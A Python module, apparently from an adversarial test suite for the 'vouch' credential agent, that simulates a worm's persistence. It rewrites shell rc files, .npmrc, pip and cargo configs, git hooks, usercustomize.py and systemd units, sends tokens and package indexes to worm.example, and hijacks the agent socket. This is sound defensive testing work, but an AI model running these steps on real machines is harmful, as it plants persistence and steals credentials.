"""What it leaves for the next command: processes that wait, and the user's own files and programs changed."""
import site

from wire import *

harvest = os.path.join(work, "harvest.py")


def looking(name):
    """A line for sh that reports what its own environment and descriptors hold."""
    return f"'{sys.executable}' '{harvest}' {name}"


def background(name):
    null = subprocess.DEVNULL
    subprocess.Popen([sys.executable, harvest, name], stdin=null, stdout=null, stderr=null, start_new_session=True)
    return b"started"


def append(name, text):
    write(os.path.join(home, name), f"\n{text}\n", "a")
    return b"written"


def fake_path():
    """Behind the shims: what a shim takes for the real program."""
    for name in ["npm", "cargo"]:
        program(os.path.join(folder, "bin", name), looking("fake-path"))
    return b"written"


def home_programs():
    for at in [".local/bin", ".cargo/bin", "bin"]:
        for name in ["npm", "cargo", "pip", "vouch", "pinentry"]:
            program(os.path.join(home, at, name), looking("home-programs"))
    return b"written"


def shell_rc():
    for name in [".bashrc", ".profile", ".bash_profile", ".zshrc"]:
        append(name, looking("shell-rc"))
    return append(".bashrc", f"export WORM_HOOK=shell-rc NODE_OPTIONS='--require {work}/hook.cjs'")


def npmrc():
    hook = os.path.join(work, "hook.cjs")
    shell = program(os.path.join(work, "script-shell"), f"{looking('npmrc-later')}\nexec sh \"$@\"")
    lines = [f"node-options=--require {hook}", f"script-shell={shell}", f"git={shell}"]
    return append(".npmrc", "\n".join([*lines, "//worm.example/:_authToken=${CODEARTIFACT_AUTH_TOKEN}"]))


def cargo_config():
    wrapper = program(os.path.join(work, "rustc"), f"{looking('cargo-config-later')}\nexec \"$@\"")
    return append(".cargo/config.toml", f'[build]\nrustc-wrapper = "{wrapper}"')


def cargo_provider():
    own = program(os.path.join(work, "cargo-helper"), looking("cargo-provider-later"))
    path = os.path.join(home, ".cargo/config.toml")
    line = re.compile(rb"credential-provider = .*")
    with open(path, "rb") as file:
        text = line.sub(f'credential-provider = "{own}"'.encode(), file.read())
    with open(path, "wb") as file:
        file.write(text)
    return b"written"


def pip_config():
    return append(".config/pip/pip.conf", "[install]\nextra-index-url = https://worm.example/simple/")


def python_site():
    """A module that every Python of the user loads at its start, pip's too: it hears what keyring says."""
    packages = site.getusersitepackages()
    if not packages.startswith(home):
        raise NotMade("needs a Python whose user has a folder for packages")
    text = read(os.path.join(here, "customize.py")).decode().replace("HARVEST", work)
    return write(os.path.join(packages, "usercustomize.py"), text).encode()


def git_hooks():
    program(os.path.join(home, ".config/git/hooks/post-checkout"), looking("git-hooks"))
    return append(".gitconfig", f"[core]\n\thooksPath = {home}/.config/git/hooks\n\tfsmonitor = {looking('git-hooks')}")


def services():
    """Units and entries that the next login of the desktop starts; none starts here."""
    unit = f"[Service]\nExecStart={looking('services')}\n[Install]\nWantedBy=default.target\n"
    write(os.path.join(home, ".config/systemd/user/vouch-agent.service"), unit)
    write(os.path.join(home, ".config/autostart/worm.desktop"), f"[Desktop Entry]\nType=Application\nExec={looking('services')}\n")
    return run("systemctl", "--user", "daemon-reload") + run("crontab", "-l")


def replaced_socket():
    os.rename(agent_socket, f"{agent_socket}.real")
    return background("replace-socket")


def give_the_socket_back():
    if os.path.exists(f"{agent_socket}.real"):
        os.rename(f"{agent_socket}.real", agent_socket)


def link():
    os.symlink("/", os.path.join(runtime, "link"))
    return read(os.path.join(runtime, "link/proc/self/environ"))


def second_agent():
    own = os.path.join(work, "own-run")
    return run(vouch, "agent", "run", seconds=3) + run(vouch, "agent", "run", env={"VOUCH_RUNTIME_DIR": own}, seconds=3)


def own_shims():
    """In the shims folder itself, before the real ones."""
    for name in ["pip", "keyring"]:
        shim = os.path.join(home, ".local/share/vouch/shims", name)
        os.rename(shim, f"{shim}.real")
        program(shim, looking("own-shims"))
    return b"written"


attempts = {
    "later-environments": lambda: background("later-environments"),
    "pipe-race": lambda: background("pipe-race"),
    "ask-later": lambda: background("ask-later"),
    "home-programs": home_programs,
    "shell-rc": shell_rc,
    "npmrc-later": npmrc,
    "cargo-config-later": cargo_config,
    "cargo-provider-later": cargo_provider,
    "pip-config-later": pip_config,
    "python-site": python_site,
    "git-hooks": git_hooks,
    "services": services,
    "second-agent": second_agent,
    "runtime-link": link,
    "replace-socket": replaced_socket,
    "fake-path": fake_path,
    "own-shims": own_shims,
}
